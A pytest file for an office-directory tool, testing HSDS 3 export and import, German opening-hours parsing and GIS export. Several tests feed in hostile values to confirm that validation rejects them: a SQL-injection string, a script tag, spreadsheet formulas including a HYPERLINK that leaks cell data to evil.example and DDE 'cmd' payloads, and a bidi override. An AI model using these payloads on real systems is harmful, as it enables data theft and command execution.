"""Tests of finder.hsds (HSDS 3 export and reading), finder.import_plan, finder.opening_hours, finder.gis_export.

No Python package ships the HSDS 3 JSON schemas, so the export is checked against the required fields and
value rules of HSDS 3.x written out here (ids are UUIDs; service: id, name, status ∈ enum; organization:
id, name, description; location: id, location_type ∈ enum; address: id, address_1, city, state_province,
postal_code, country, address_type; phone: id, number; language/schedule/attribute: id; taxonomy_term:
id, name, description; schedule freq/wkst enums, HH:MM times).
"""

from __future__ import annotations

import json
import re
import shutil
import uuid
from pathlib import Path

import geopandas as gpd
import pyogrio
import pytest
from helpers import REPO, make_offices_csv, run_cli
from hypothesis import given
from hypothesis import strategies as st

from finder import corrections, gis_export, hsds
from finder.corrections import CorrectionStore, DirectoryEditor
from finder.directory import ADDED_COLUMNS, OFFICE_COLUMNS, load_offices
from finder.errors import HsdsError
from finder.import_plan import plan_import, read_import
from finder.opening_hours import parse_opening_hours

HH_MM = re.compile(r"([01][0-9]|2[0-4]):[0-5][0-9]")


def is_uuid(value: object) -> bool:
    try:
        return isinstance(value, str) and str(uuid.UUID(value)) == value
    except ValueError:
        return False


def require(obj: dict, *fields: str) -> None:
    missing = [f for f in fields if f not in obj]
    assert not missing, (missing, obj)
    assert is_uuid(obj["id"]), obj["id"]


def check_attribute(attribute: dict) -> None:
    require(attribute, "id")
    assert is_uuid(attribute["link_id"]) and is_uuid(attribute["taxonomy_term_id"])
    term = attribute["taxonomy_term"]
    require(term, "id", "name", "description")
    assert term["id"] == attribute["taxonomy_term_id"]


def check_service(service: dict) -> None:
    """The HSDS 3 rules our compiled services must follow."""
    require(service, "id", "name", "status")
    assert service["status"] in ("active", "inactive", "defunct", "temporarily closed")
    assert isinstance(service["name"], str) and service["name"]
    if "organization" in service:
        require(service["organization"], "id", "name", "description")
        assert service["organization_id"] == service["organization"]["id"]
    for phone in service["phones"]:
        require(phone, "id", "number")
        assert phone["service_id"] == service["id"]
    for language in service["languages"]:
        require(language, "id")
        assert re.fullmatch(r"[a-z]{2}", language["code"])
    for schedule in service["schedules"]:
        require(schedule, "id")
        if "freq" in schedule:
            assert schedule["freq"] in ("WEEKLY", "MONTHLY") and schedule["wkst"] in (
                "MO",
                "TU",
                "WE",
                "TH",
                "FR",
                "SA",
                "SU",
            )
            assert HH_MM.fullmatch(schedule["opens_at"]) and HH_MM.fullmatch(schedule["closes_at"])
            assert set(schedule["byday"].split(",")) <= {"MO", "TU", "WE", "TH", "FR", "SA", "SU"}
    for link in service["service_at_locations"]:
        require(link, "id")
        location = link["location"]
        require(location, "id", "location_type")
        assert link["location_id"] == location["id"]
        assert location["location_type"] in ("physical", "postal", "virtual")
        for address in location.get("addresses", []):
            require(
                address, "id", "address_1", "city", "state_province", "postal_code", "country", "address_type"
            )
            assert address["address_type"] in ("physical", "postal", "virtual")
        if "latitude" in location:
            assert isinstance(location["latitude"], float) and isinstance(location["longitude"], float)
        for attribute in location.get("attributes", []):
            check_attribute(attribute)
    for attribute in service["attributes"]:
        check_attribute(attribute)
    if "assured_date" in service:
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", service["assured_date"])


ROWS = [
    {"id": "mbe-x", "name": "Migrationsberatung X", "provider": "Caritas", "street": "Markt 1", "postcode": "04109",
     "city": "Leipzig", "district": "Leipzig", "phone": "0341 1, 0341 2", "email": "a@x.de; b@x.de",
     "website": "https://x.de/beratung", "languages": "de;ar;fa", "topics": "residence;work",
     "target_group_original": "Erwachsene ab 27", "opening_hours": "Mo-Fr 9-12 (Stand 2024); sonst Termin",
     "source_url": "https://x.de/a | https://x.de/b", "source_date": "2024-05", "last_checked": "2026-11-28",
     "notes": "'); DROP TABLE services; -- and \"quotes\", Ümlaute, عربى", "lat": "51.34000", "lon": "12.37500",
     "geocode_precision": "postcode", "geocode_source": "geonames-postcode", "interpreting": "yes",
     "opening_hours_osm": "Mo-Fr 09:00-12:00; PH off", "status": "possibly closed"},
    {"id": "online", "name": "Online-Beratung", "district": "Sachsen", "website": "https://online.example.org",
     "kind": "OTHER", "topics": "legal", "interpreting": "no", "status": "closed"},
    {"id": "nothing", "name": "Ohne Ort", "provider": "Caritas", "district": "Sachsen", "kind": "OTHER"},
]  # fmt: skip


@pytest.fixture
def directory(tmp_path) -> Path:
    folder = tmp_path / "data"
    folder.mkdir()
    make_offices_csv(folder / "offices.csv", ROWS)
    return folder


# --- opening hours -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Mo-Fr 9-17", [("MO,TU,WE,TH,FR", "09:00", "17:00")]),
        ("Di+Do 08:30-12:00 und 13:00-18:00; Termin erforderlich",
         [("TU,TH", "08:30", "12:00"), ("TU,TH", "13:00", "18:00")]),
        ("Mi 14-16, Fr 10-13", [("WE", "14:00", "16:00"), ("FR", "10:00", "13:00")]),
        ("Mo u. Fr 8:30-12, Di u. Do 14-18 Uhr", [("MO,FR", "08:30", "12:00"), ("TU,TH", "14:00", "18:00")]),
        ("Mo bis Mi 9 - 12", [("MO,TU,WE", "09:00", "12:00")]),
        ("nach Vereinbarung", []),
        ("jeden 2. Do 17-19", []),
        ("Termin-Hotline Di+Do 8-12", []),
        ("Mo 18 Uhr", []),
        ("Mo 12-9", []),
        ("Mo 25-26", []),
        ("Fr-Mo 9-12", []),
        ("Mo 9-12 (a) und Di 9-12", []),
        ("", []),
    ],
)  # fmt: skip
def test_parse_opening_hours(text, expected):
    got = [(r["byday"], r["opens_at"], r["closes_at"]) for r in parse_opening_hours(text)]
    assert got == expected


def test_parse_opening_hours_keeps_a_trailing_note():
    assert parse_opening_hours("Di 14-16 (im Einwohnermeldeamt)")[0]["notes"] == "im Einwohnermeldeamt"


@given(st.text(alphabet="MoDiMiDoFrSa 0123456789:-+,/u.und()Uhr;", max_size=60))
def test_parse_opening_hours_never_fails(text):
    for rule in parse_opening_hours(text):
        assert rule["opens_at"] < rule["closes_at"]
        assert HH_MM.fullmatch(rule["opens_at"]) and HH_MM.fullmatch(rule["closes_at"])


# --- export ------------------------------------------------------------------------------------------


def test_export_structure(directory, tmp_path):
    _, rows = corrections.read_rows(directory / "offices.csv")
    written = hsds.export_hsds(rows, tmp_path / "out")
    assert [p.name for p in written] == ["services.json", "organizations.json", "taxonomies.json"]
    services = json.loads((tmp_path / "out" / "services.json").read_text(encoding="utf-8"))
    organizations = json.loads((tmp_path / "out" / "organizations.json").read_text(encoding="utf-8"))
    taxonomies = json.loads((tmp_path / "out" / "taxonomies.json").read_text(encoding="utf-8"))
    for service in services:
        check_service(service)
    for organization in organizations:
        require(organization, "id", "name", "description")
    require(taxonomies[0], "id", "name", "description")
    assert [o["name"] for o in organizations] == ["Caritas"]
    first = services[0]
    assert [p["number"] for p in first["phones"]] == ["0341 1", "0341 2"]
    assert first["email"] == "a@x.de"
    assert [(lang["code"], lang["name"]) for lang in first["languages"]] == [("de", "German"), ("ar", "Arabic"),
                                                                           ("fa", "Persian")]  # fmt: skip
    assert first["schedules"][0]["description"] == "Mo-Fr 9-12 (Stand 2024); sonst Termin"
    assert (
        first["schedules"][0]["byday"] == "MO,TU,WE,TH,FR" and first["schedules"][0]["notes"] == "Stand 2024"
    )
    address = first["service_at_locations"][0]["location"]["addresses"][0]
    assert (address["address_1"], address["postal_code"], address["country"], address["region"]) == (
        "Markt 1", "04109", "DE", "Leipzig")  # fmt: skip
    assert first["minimum_age"] == 27 and "maximum_age" not in first  # MBE is 27+
    online = services[1]
    assert online["service_at_locations"][0]["location"]["location_type"] == "virtual"
    assert services[2]["service_at_locations"] == []
    assert "organization" not in online


def test_export_is_deterministic(directory, tmp_path):
    _, rows = corrections.read_rows(directory / "offices.csv")
    hsds.export_hsds(rows, tmp_path / "one")
    hsds.export_hsds(rows, tmp_path / "two")
    for name in ("services.json", "organizations.json", "taxonomies.json"):
        assert (tmp_path / "one" / name).read_bytes() == (tmp_path / "two" / name).read_bytes()


def test_export_of_the_real_directory_follows_hsds(tmp_path):
    _, rows = corrections.read_rows(REPO / "data" / "offices.csv")
    data = hsds.to_hsds(rows)
    assert len(data["services"]) == len(rows)
    for service in data["services"]:
        check_service(service)
    ids = [s["id"] for s in data["services"]]
    assert len(set(ids)) == len(ids)


def test_export_accepts_a_dataframe(directory):
    frame = load_offices(directory / "offices.csv")
    services = hsds.to_hsds(frame)["services"]
    assert services[0]["service_at_locations"][0]["location"]["latitude"] == 51.34


# --- import ------------------------------------------------------------------------------------------


def test_round_trip_changes_nothing(directory, tmp_path):
    header, rows = corrections.read_rows(directory / "offices.csv")
    hsds.export_hsds(rows, tmp_path / "out")
    incoming = read_import(tmp_path / "out")
    plan = plan_import(incoming, header, rows)
    assert plan.empty and plan.problems == [] and sorted(plan.unchanged) == sorted(r["id"] for r in rows)


def test_status_and_interpreting_in_their_hsds_homes(directory, tmp_path):
    _, rows = corrections.read_rows(directory / "offices.csv")
    services = {s["attributes"][0]["value"]: s for s in hsds.to_hsds(rows)["services"]}
    assert [services[i]["status"] for i in ("mbe-x", "online", "nothing")] == ["active", "defunct", "active"]
    assert "interpreters" in services["mbe-x"]["interpretation_services"]
    assert "interpretation_services" not in services["nothing"]
    # A service of another publisher (no attributes of ours but the id) gets its status from HSDS.
    for status, ours in (("defunct", "closed"), ("inactive", "closed"), ("temporarily closed", "possibly closed"),
                         ("active", "")):  # fmt: skip
        service = {"name": "X", "status": status, "attributes": [a for a in services["nothing"]["attributes"]
                                                                 if a["taxonomy_term"]["code"] == "id"]}  # fmt: skip
        assert hsds.service_to_row(service)["status"] == ours


def test_round_trip_of_the_real_directory_via_cli(tmp_path, capsys, monkeypatch):
    data = tmp_path / "data"
    data.mkdir()
    shutil.copy(REPO / "data" / "offices.csv", data / "offices.csv")
    before = (data / "offices.csv").read_bytes()
    count = len(corrections.read_rows(data / "offices.csv")[1])
    monkeypatch.setenv("FINDER_CORRECTIONS_TARGET", "csv")
    code, out, _ = run_cli(["export", "--format", "hsds", "--output", str(tmp_path / "hsds"), "--data-dir", str(data)],
                           capsys)  # fmt: skip
    assert code == 0 and json.loads(out)["offices"] == count
    db = str(tmp_path / "c.sqlite")
    code, out, err = run_cli(["import", str(tmp_path / "hsds"), "--data-dir", str(data), "--db", db], capsys)
    assert code == 0 and f"{count} office(s) unchanged" in out and "nothing to change" in err
    assert (data / "offices.csv").read_bytes() == before


def test_import_applies_changes_with_history(directory, tmp_path, capsys):
    _, rows = corrections.read_rows(directory / "offices.csv")
    hsds.export_hsds(rows, tmp_path / "out")
    services = json.loads((tmp_path / "out" / "services.json").read_text(encoding="utf-8"))
    services[0]["phones"] = [{"id": str(uuid.uuid4()), "number": "0341 999"}]
    services[0]["assured_date"] = "2027-01-15"
    new = json.loads(json.dumps(services[1]))
    for attribute in new["attributes"]:
        if attribute["taxonomy_term"]["code"] == "id":
            attribute["value"] = "online-two"
    new["name"] = "Zweite Online-Beratung"
    services.append(new)
    (tmp_path / "out" / "services.json").write_text(
        json.dumps(services, ensure_ascii=False), encoding="utf-8"
    )

    before = (directory / "offices.csv").read_bytes()
    base = ["import", str(tmp_path / "out"), "--data-dir", str(directory)]
    code, out, err = run_cli([*base, "--dry-run"], capsys)
    assert code == 0 and "update mbe-x:" in out and "'0341 1, 0341 2' → '0341 999'" in out
    assert "add online-two" in out and "dry run" in err
    assert (directory / "offices.csv").read_bytes() == before

    db = str(tmp_path / "c.sqlite")
    code, out, err = run_cli([*base, "--db", db, "--by", "anna", "--json"], capsys)
    assert code == 0 and json.loads(out)["additions"] == ["online-two"]
    rows_after = {r["id"]: r for r in corrections.read_rows(directory / "offices.csv")[1]}
    assert rows_after["mbe-x"]["phone"] == "0341 999"
    assert rows_after["mbe-x"]["last_checked"] == "2027-01-15"
    assert rows_after["online-two"]["name"] == "Zweite Online-Beratung"
    history = CorrectionStore(db).history()
    assert {(c.office_id, c.action, c.by) for c in history} == {("mbe-x", "import", "anna"),
                                                                 ("online-two", "import", "anna")}  # fmt: skip
    # Every imported change can be reverted.
    editor = DirectoryEditor(CorrectionStore(db), directory / "offices.csv")
    for change in history:
        editor.revert(change.id, by="anna")
    assert (directory / "offices.csv").read_bytes() == before


def test_import_of_a_csv(directory, tmp_path, capsys):
    changed = make_offices_csv(tmp_path / "changed.csv", [{**ROWS[0], "phone": "0341 77"}])
    code, out, _ = run_cli(["import", str(changed), "--data-dir", str(directory), "--dry-run"], capsys)
    assert code == 0 and "phone: '0341 1, 0341 2' → '0341 77'" in out
    assert "2 office(s) of the directory are not in the import (left unchanged)" in out


def test_an_older_csv_says_nothing_about_the_added_columns(directory, tmp_path):
    old_layout = [c for c in OFFICE_COLUMNS if c not in ADDED_COLUMNS]
    older = make_offices_csv(tmp_path / "older.csv", [{**{c: ROWS[0][c] for c in old_layout if c in ROWS[0]},
                                                       "phone": "0341 77"}], columns=old_layout)  # fmt: skip
    header, rows = corrections.read_rows(directory / "offices.csv")
    plan = plan_import(read_import(older), header, rows)
    # The phone changes; interpreting, status and the structured hours stay as they are.
    assert plan.updates == {"mbe-x": {"phone": ("0341 1, 0341 2", "0341 77")}}


def test_equivalent_values_are_not_changes(directory):
    header, rows = corrections.read_rows(directory / "offices.csv")
    incoming = [dict(r) for r in rows]
    incoming[0]["lat"] = "51.34"  # the same number
    incoming[0]["phone"] = "0341 1; 0341 2"  # the same list
    assert plan_import(incoming, header, rows).empty


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"\xff\xfe not utf-8", "not UTF-8"),
        (b"{not json", "not valid JSON"),
        (b'{"a": 1}', "expected a JSON array"),
        (b"[1, 2]", "not a JSON object"),
        (b'[{"name": "x", "attributes": []}]', "no office id attribute"),
        pytest.param(
            json.dumps([{**hsds.to_hsds(ROWS)["services"][0], "phones": "0341"}]).encode(),
            "must be a list of objects",
            id="phones-not-a-list",
        ),
        pytest.param(
            json.dumps([{**hsds.to_hsds(ROWS)["services"][0], "name": {"x": 1}}]).encode(),
            "services.json:1: service 1: name: expected text, found dict",
            id="name-not-text",
        ),
        pytest.param(b"[" * 100000 + b"]" * 100000, "nested too deeply", id="deep"),
    ],
)
def test_bad_hsds_input_gives_clear_errors(tmp_path, content, message):
    path = tmp_path / "services.json"
    path.write_bytes(content)
    with pytest.raises(HsdsError, match=message):
        read_import(path)


def test_bad_csv_input_gives_clear_errors(tmp_path, directory, capsys):
    bad = tmp_path / "bad.csv"
    bad.write_bytes((directory / "offices.csv").read_bytes().replace(b"Leipzig", b"Leip\xffzig"))
    code, _, err = run_cli(["import", str(bad), "--data-dir", str(directory)], capsys)
    assert code == 1 and "not UTF-8" in err
    code, _, err = run_cli(["import", str(tmp_path / "missing.csv"), "--data-dir", str(directory)], capsys)
    assert code == 1 and "does not exist" in err


def test_import_that_would_break_the_directory_changes_nothing(directory, tmp_path, capsys):
    _, rows = corrections.read_rows(directory / "offices.csv")
    hsds.export_hsds(rows, tmp_path / "out")
    services = json.loads((tmp_path / "out" / "services.json").read_text(encoding="utf-8"))
    services[0]["name"] = "<script>alert(1)</script>"
    services[1]["languages"] = [{"id": str(uuid.uuid4()), "code": "xx"}]
    services.append(services[2])  # the same office twice
    (tmp_path / "out" / "services.json").write_text(json.dumps(services), encoding="utf-8")
    before = (directory / "offices.csv").read_bytes()
    code, out, err = run_cli(["import", str(tmp_path / "out"), "--data-dir", str(directory),
                              "--db", str(tmp_path / "c.sqlite")], capsys)  # fmt: skip
    assert code == 1 and "appears more than once" in err  # found while reading, before any plan
    services.pop()
    (tmp_path / "out" / "services.json").write_text(json.dumps(services), encoding="utf-8")
    code, out, err = run_cli(["import", str(tmp_path / "out"), "--data-dir", str(directory),
                              "--db", str(tmp_path / "c.sqlite")], capsys)  # fmt: skip
    assert code == 1 and "HTML markup" in out and "ISO 639-1" in out
    assert (directory / "offices.csv").read_bytes() == before


def test_imports_with_formulas_or_bidi_controls_change_nothing(directory, tmp_path, capsys):
    # The review's h10 (formulas in names) and a bidi override: refused by validation, by HSDS and by CSV.
    _, rows = corrections.read_rows(directory / "offices.csv")
    hsds.export_hsds(rows, tmp_path / "out")
    services = json.loads((tmp_path / "out" / "services.json").read_text(encoding="utf-8"))
    services[0]["name"] = '=HYPERLINK("http://evil.example/?x="&A1,"Click for help")'
    services[2]["organization"]["name"] = "+cmd|' /C calc'!A0"
    services[1]["name"] = "Online\u202eBeratung"
    (tmp_path / "out" / "services.json").write_text(json.dumps(services), encoding="utf-8")
    before = (directory / "offices.csv").read_bytes()
    code, out, err = run_cli(["import", str(tmp_path / "out"), "--data-dir", str(directory),
                              "--db", str(tmp_path / "c.sqlite")], capsys)  # fmt: skip
    assert code == 1 and "nothing was changed" in err
    assert out.count("spreadsheet formula") == 2 and "bidi" in out
    hostile = [dict(rows[0], street="@SUM(1+1)*cmd|' /C calc'!A0")]
    make_offices_csv(tmp_path / "in.csv", hostile)
    code, _, err = run_cli(
        ["import", str(tmp_path / "in.csv"), "--data-dir", str(directory), "--dry-run"], capsys
    )
    assert code == 1 and "in.csv:2: street: starts like a spreadsheet formula" in err
    assert (directory / "offices.csv").read_bytes() == before


def test_hsds_export_keeps_values_as_they_are():
    # HSDS is JSON for programs: no ' in front (that would break export -> import); validation keeps
    # formulas out of the directory, and the spreadsheet formats neutralise them (test_formulas.py).
    row = {**ROWS[0], "name": "=1+1", "phone": "+49 341 1"}
    (service,) = hsds.to_hsds([row])["services"]
    assert service["name"] == "=1+1" and service["phones"][0]["number"] == "+49 341 1"


# --- GIS -----------------------------------------------------------------------------------------------


def test_geojson_export(directory, tmp_path):
    _, rows = corrections.read_rows(directory / "offices.csv")
    path, count = gis_export.export(rows, tmp_path / "offices.geojson", "geojson")
    assert count == 1  # the two others have no position
    data = json.loads(path.read_text(encoding="utf-8"))
    feature = data["features"][0]
    assert feature["geometry"] == {"type": "Point", "coordinates": [12.375, 51.34]}
    assert feature["properties"]["id"] == "mbe-x"
    assert feature["properties"]["geocode_precision"] == "postcode"
    assert "lat" not in feature["properties"]
    assert "geocode_precision" in data["description"]
    # Written again over an existing file: replaced, not appended.
    gis_export.write_geojson(load_offices(directory / "offices.csv"), path)
    assert len(json.loads(path.read_text(encoding="utf-8"))["features"]) == 1


def test_geopackage_export(directory, tmp_path):
    count = gis_export.write_geopackage(load_offices(directory / "offices.csv"), tmp_path / "o.gpkg")
    frame = gpd.read_file(tmp_path / "o.gpkg", layer=gis_export.LAYER)
    assert count == len(frame) == 1
    assert frame.crs.to_epsg() == 4326
    assert list(frame.columns) == [*gis_export.COLUMNS, "geometry"]
    assert frame.loc[0, "languages"] == "de;ar;fa"
    assert frame.geometry.iloc[0].x == pytest.approx(12.375)
    assert (
        "postcode or town centre"
        in pyogrio.read_info(tmp_path / "o.gpkg", layer="offices")["layer_metadata"]["DESCRIPTION"]
    )


def test_geopackage_without_suffix_gets_one(directory, tmp_path, recwarn):
    path, count = gis_export.export(load_offices(directory / "offices.csv"), tmp_path / "offices", "gpkg")
    assert path == tmp_path / "offices.gpkg" and path.is_file() and count == 1
    assert not (tmp_path / "offices").exists()
    assert not [w for w in recwarn if "extension" in str(w.message)]  # GDAL's warning about the name


def test_gis_export_cli(directory, tmp_path, capsys):
    out_dir = tmp_path / "gis"
    out_dir.mkdir()
    code, out, _ = run_cli(["export", "--format", "gpkg", "--output", str(out_dir), "--data-dir", str(directory)],
                           capsys)  # fmt: skip
    summary = json.loads(out)
    assert code == 0 and summary["features"] == 1 and summary["without_location"] == 2
    assert (out_dir / "offices.gpkg").exists()
    assert not [p for p in out_dir.iterdir() if p.name.startswith(".export-")]
    with pytest.raises(ValueError, match="unknown format"):
        gis_export.export([], tmp_path / "x", "kml")


def test_every_office_column_reaches_hsds_or_gis():
    carried = {"name", "provider", "street", "postcode", "city", "phone", "website", "languages",
               "target_group_original", "opening_hours", "last_checked", "lat", "lon",
               *hsds.SERVICE_ATTRIBUTES, *hsds.LOCATION_ATTRIBUTES}  # fmt: skip
    assert set(OFFICE_COLUMNS) <= carried
